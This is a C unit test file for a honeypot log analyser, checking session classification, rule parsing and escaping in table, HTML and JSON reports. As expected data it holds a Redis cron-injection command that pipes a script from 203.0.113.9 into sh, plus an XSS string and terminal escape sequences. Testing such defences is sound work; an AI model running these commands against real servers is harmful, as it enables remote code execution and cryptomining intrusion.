/* Honeypot analysis: classification of synthetic logs (tests/data/honeypot/classify.*) with the
 * shipped rules, rule semantics and errors, the report writers. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "util/common.h"
#include "util/json.h"
#include "honeypot/analysis.h"

static char rules_path[1024], data_dir[1024], work[1024];

static int setup(void **state)
{
	const char *src = getenv("LADING_SRC"), *w = getenv("LADING_WORK");
	(void)state;
	ld_snprintf(rules_path, sizeof(rules_path), "%s/data/honeypot-rules.conf",
		    src ? src : "../..");
	ld_snprintf(data_dir, sizeof(data_dir), "%s/honeypot",
		    getenv("LADING_TESTDATA") ? getenv("LADING_TESTDATA") : "../../tests/data");
	ld_snprintf(work, sizeof(work), "%s/unit-honeypot-analysis", w ? w : "/tmp");
	mkdir(w ? w : "/tmp", 0755);
	mkdir(work, 0755);
	return 0;
}

static lading_honeypot_report *build(const char *log, const char *rules, lading_ctx *ctx)
{
	lading_honeypot_report_options o = LADING_HONEYPOT_REPORT_OPTIONS_INIT;
	lading_honeypot_report *r = NULL;
	const char *logs[] = {log};
	o.rules_path = rules;
	o.top = 20;
	if (lading_honeypot_report_build(&r, logs, 1, &o, ctx) != 0)
		fail_msg("report: %s", lading_ctx_error(ctx)->msg);
	return r;
}

static const lading_honeypot_count *find(const lading_honeypot_count *rows, size_t n,
					 const char *key)
{
	for (size_t i = 0; i < n; i++)
		if (!strcmp(rows[i].key, key))
			return &rows[i];
	return NULL;
}

static void test_classify(void **state)
{
	char log[1100], exp[1100], line[512];
	lading_ctx *ctx;
	lading_honeypot_report *r;
	FILE *f;
	size_t row = 0;
	const lading_honeypot_count *c;
	(void)state;
	ld_snprintf(log, sizeof(log), "%s/classify.jsonl", data_dir);
	ld_snprintf(exp, sizeof(exp), "%s/classify.expected", data_dir);
	lading_ctx_new(&ctx);
	r = build(log, rules_path, ctx);
	f = fopen(exp, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f)) {
		char src[64], type[64], types[256], aut[8], why[64];
		const lading_honeypot_session *s;
		if (line[0] == '#')
			continue;
		assert_int_equal(
			sscanf(line, "%63s %63s %255s %7s %63s", src, type, types, aut, why), 5);
		assert_true(row < r->nsession_rows);
		s = &r->sessions[row++];
		assert_string_equal(s->src_ip, src);
		assert_string_equal(s->type, type);
		assert_string_equal(s->types, types);
		assert_int_equal(s->automated, !strcmp(aut, "yes"));
		assert_string_equal(s->why, why);
	}
	fclose(f);
	assert_int_equal(row, r->nsession_rows);
	/* the figures */
	assert_int_equal(r->nsessions, 17);
	assert_int_equal(r->sources, 16);
	assert_int_equal(r->automated, 14);
	assert_int_equal(r->manual, 3);
	assert_int_equal(r->bad_lines, 2);
	assert_int_equal(r->events, 49);
	assert_int_equal(lading_ctx_warning_count(ctx), 2);
	assert_non_null(c = find(r->by_type, r->nby_type, "recon"));
	assert_int_equal(c->count, 3);
	assert_true(c->share > 0.176 && c->share < 0.177);
	assert_string_equal(c->label, "Reconnaissance only");
	assert_int_equal(find(r->by_type, r->nby_type, "cryptominer")->count, 3);
	assert_int_equal(find(r->by_type, r->nby_type, "container-escape")->count, 3);
	assert_int_equal(find(r->by_type, r->nby_type, "reverse-shell")->count, 2);
	assert_int_equal(find(r->by_type, r->nby_type, "secret-theft")->count, 2);
	assert_int_equal(r->by_type[0].count, 3); /* sorted by count */
	assert_int_equal(find(r->by_service, r->nby_service, "redis")->count, 3);
	assert_int_equal(find(r->by_reason, r->nby_reason, "manual")->count, 3);
	assert_int_equal(find(r->by_reason, r->nby_reason, "few-steps")->count, 5);
	assert_int_equal(find(r->by_country, r->nby_country, "??")->count,
			 17); /* no GeoIP database */
	assert_int_equal(find(r->sources_by_country, r->nsources_by_country, "??")->count, 16);
	assert_int_equal(r->ntop_passwords, 5);
	assert_non_null(find(r->top_commands, r->ntop_commands, "CONFIG SET dir /var/spool/cron"));
	assert_non_null(find(r->top_images, r->ntop_images, "xmrig/xmrig:latest"));
	assert_int_equal(find(r->top_users, r->ntop_users, "root")->count,
			 1); /* sessions, not attempts */
	c = find(r->top_payloads, r->ntop_payloads,
		 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
	assert_non_null(c);
	assert_string_equal(c->label,
			    "SET x */1 * * * * curl -fsSL http://203.0.113.9/init.sh | sh");
	assert_int_equal(r->sessions[0].steps, 4);
	assert_int_equal(r->sessions[0].connections, 1);
	assert_int_equal(r->sessions[4].connections, 5);
	assert_true(r->sessions[4].median_gap_s > 0.99 && r->sessions[4].median_gap_s < 1.01);
	assert_true(r->sessions[6].median_gap_s < 0);
	assert_string_equal(r->first, "2024-05-01T11:59:59.000000Z");
	lading_honeypot_report_free(r);
	lading_ctx_free(ctx);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

#define EV(src, t, id, req)                                                                        \
	"{\"eventid\":\"" id "\",\"timestamp\":\"2024-05-01T00:00:" t "Z\",\"session\":\"c" src    \
	"\",\"service\":\"redis\",\"src_ip\":\"10.0.0." src "\",\"request\":" req "}\n"

static void test_rule_semantics(void **state)
{
	char log[1100], rules[1100];
	lading_ctx *ctx;
	lading_honeypot_report *r;
	(void)state;
	ld_snprintf(log, sizeof(log), "%s/sem.jsonl", work);
	ld_snprintf(rules, sizeof(rules), "%s/sem.conf", work);
	write_file(log,
		   /* 1: a then b */
		   EV("1", "01", "x.a", "{\"k\":\"v1\"}") EV("1", "02", "x.b", "{\"k\":\"v2\"}")
		   /* 2: b then a, three times a with the same value */
		   EV("2", "01", "x.b", "{\"k\":\"v1\"}") EV("2", "02", "x.a", "{\"k\":\"v1\"}")
			   EV("2", "03", "x.a", "{\"k\":\"v1\"}")
				   EV("2", "04", "x.a", "{\"k\":[\"q\",\"v1\"]}")
		   /* 3: a with three values, nested and boolean fields */
		   EV("3", "01", "x.a", "{\"k\":\"v1\",\"o\":{\"p\":true}}")
			   EV("3", "02", "x.a", "{\"k\":\"v2\"}")
				   EV("3", "03", "x.a", "{\"k\":\"v3\"}"));
	write_file(rules, "set timing_steps 99\n"
			  "set few_steps manual\n"
			  "type seq-ab \"a then b\"\n  seq x.a\n  seq x.b\n"
			  "type three-a \"three a\"\n  count 3 x.a\n"
			  "type three-values \"three values\"\n  distinct 3 k x.a\n"
			  "type nested \"nested true\"\n  all x.a o.p = TRUE\n  not x.b\n"
			  "type either \"either\"\n  any x.b k = v2\n  any x.a k ~ \"^q$\"\n"
			  "automated any-k \"k is v3\"\n  any * k = v3\n"
			  "fallback none \"nothing\"\n");
	lading_ctx_new(&ctx);
	r = build(log, rules, ctx);
	assert_int_equal(r->nsession_rows, 3);
	assert_string_equal(r->sessions[0].src_ip, "10.0.0.1");
	assert_string_equal(r->sessions[0].types, "seq-ab,either");
	assert_false(r->sessions[0].automated);
	assert_string_equal(r->sessions[0].why, "few-steps-manual");
	assert_string_equal(r->sessions[1].types, "three-a,either");
	assert_string_equal(r->sessions[2].types, "three-a,three-values,nested");
	assert_true(r->sessions[2].automated);
	assert_string_equal(r->sessions[2].why, "any-k");
	lading_honeypot_report_free(r);

	/* timing: 3 steps 1 s apart is automated under human_gap 2, manual under 0.5 */
	write_file(rules, "set human_gap 0.5\ntype t \"t\"\n  all x.a\n");
	r = build(log, rules, ctx);
	assert_false(r->sessions[2].automated);
	assert_string_equal(r->sessions[2].why, "human-timing");
	assert_string_equal(r->sessions[2].type, "t");
	assert_string_equal(r->sessions[0].type, "t");
	lading_honeypot_report_free(r);
	write_file(rules, "type t \"t\"\n  all x.a\n");
	r = build(log, rules, ctx);
	assert_true(r->sessions[2].automated);
	assert_string_equal(r->sessions[2].why, "timing");
	assert_string_equal(r->sessions[0].why, "few-steps");
	lading_honeypot_report_free(r);

	/* the session gap splits one source */
	write_file(rules, "set session_gap 0.5\ntype t \"t\"\n  all x.a\n");
	r = build(log, rules, ctx);
	assert_int_equal(r->nsessions, 2 + 4 + 3);
	assert_int_equal(r->sources, 3);
	lading_honeypot_report_free(r);
	lading_ctx_free(ctx);
}

static void test_rule_errors(void **state)
{
	static const struct {
		const char *text, *msg;
	} bad[] = {
		{"all x.a\n", "t:1: a condition line outside a type or automated block"},
		{"type t \"x\"\n  all x.a k ~ \"(\"\n", "t:2: bad regular expression"},
		{"type t \"x\"\n  all x.a k\n",
		 "t:2: a field test is FIELD OP VALUE or FIELD exists"},
		{"type t \"x\"\n  all x.a k > 3\n", "t:2: operators are =, ~, !~ and exists"},
		{"type t \"x\n", "t:1: unterminated quote"},
		{"type t \"x\"\n", "t: block t has no condition"},
		{"set session_gap -1\n", "t:1: a non-negative number is needed"},
		{"set nope 1\n", "t:1: settings are"},
		{"type t \"x\"\n  count 0 x.a\n", "t:2: count/distinct need a number from 1"},
		{"type t \"x\"\n  distinct 2 x.a\n", "t:2: distinct N FIELD CONDITION"},
		{"type t \"x\"\n  frob x.a\n", "t:2: lines are"},
	};
	lading_ctx *ctx;
	lading_ctx_new(&ctx);
	(void)state;
	for (size_t i = 0; i < LD_ARRAY_LEN(bad); i++) {
		ld_hp_rules *r = NULL;
		int rc = ld_hp_rules_parse(&r, bad[i].text, strlen(bad[i].text), "t", ctx);
		assert_true(rc < 0);
		assert_null(r);
		if (strncmp(lading_ctx_error(ctx)->msg, bad[i].msg, strlen(bad[i].msg)))
			fail_msg("rule %zu: got '%s'", i, lading_ctx_error(ctx)->msg);
	}
	/* the shipped rules parse */
	{
		ld_hp_rules *r = NULL;
		assert_int_equal(ld_hp_rules_load(&r, rules_path, ctx), 0);
		assert_true(r->nblocks >= 10);
		assert_string_equal(r->fallback, "recon");
		ld_hp_rules_free(r);
	}
	lading_ctx_free(ctx);
}

static void test_writers(void **state)
{
	char log[1100];
	lading_ctx *ctx;
	lading_honeypot_report *r;
	char *out;
	size_t len;
	ld_arena a;
	ld_json *v;
	(void)state;
	ld_snprintf(log, sizeof(log), "%s/hostile.jsonl", work);
	/* attacker strings that must not reach a terminal or a page unescaped */
	write_file(log, "{\"eventid\":\"mysql.login\",\"timestamp\":\"2024-05-01T00:00:01Z\","
			"\"session\":\"c1\","
			"\"service\":\"mysql\",\"src_ip\":\"10.0.0.1\",\"request\":{\"username\":"
			"\"<script>alert(1)</script>\","
			"\"password\":\"\\u001b[31mred\\u0007\"}}\n");
	lading_ctx_new(&ctx);
	r = build(log, rules_path, ctx);
	assert_int_equal(lading_honeypot_report_write(r, "table", &out, &len, ctx), 0);
	assert_null(memchr(out, 0x1b, len));
	assert_null(memchr(out, 0x07, len));
	assert_non_null(strstr(out, "?[31mred?"));
	free(out);
	assert_int_equal(lading_honeypot_report_write(r, "html", &out, &len, ctx), 0);
	assert_null(strstr(out, "<script>"));
	assert_non_null(strstr(out, "&lt;script&gt;alert(1)&lt;/script&gt;"));
	assert_non_null(strstr(out, "<svg"));
	free(out);
	assert_int_equal(lading_honeypot_report_write(r, "json", &out, &len, ctx), 0);
	ld_arena_init(&a, 0);
	assert_int_equal(ld_json_parse(&v, &a, out, len, NULL, ctx, "report"), 0);
	assert_string_equal(
		ld_json_get_str(ld_json_at(ld_json_getp(v, "top", "usernames", NULL), 0), "key"),
		"<script>alert(1)</script>");
	assert_int_equal(ld_json_len(ld_json_get(v, "attack_sessions")), 1);
	ld_arena_release(&a);
	free(out);
	assert_int_equal(lading_honeypot_report_write(r, "xml", &out, &len, ctx), LADING_EUSAGE);
	lading_honeypot_report_free(r);
	/* a GeoIP file that is not one */
	{
		lading_honeypot_report_options o = LADING_HONEYPOT_REPORT_OPTIONS_INIT;
		const char *logs[] = {log};
		o.rules_path = rules_path;
		o.geoip_path = log;
		assert_int_equal(lading_honeypot_report_build(&r, logs, 1, &o, ctx),
				 LADING_EINVALID);
		assert_non_null(strstr(lading_ctx_error(ctx)->msg, "GeoIP database"));
	}
	lading_ctx_free(ctx);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_classify),
		cmocka_unit_test(test_rule_semantics),
		cmocka_unit_test(test_rule_errors),
		cmocka_unit_test(test_writers),
	};
	return cmocka_run_group_tests(tests, setup, NULL);
}
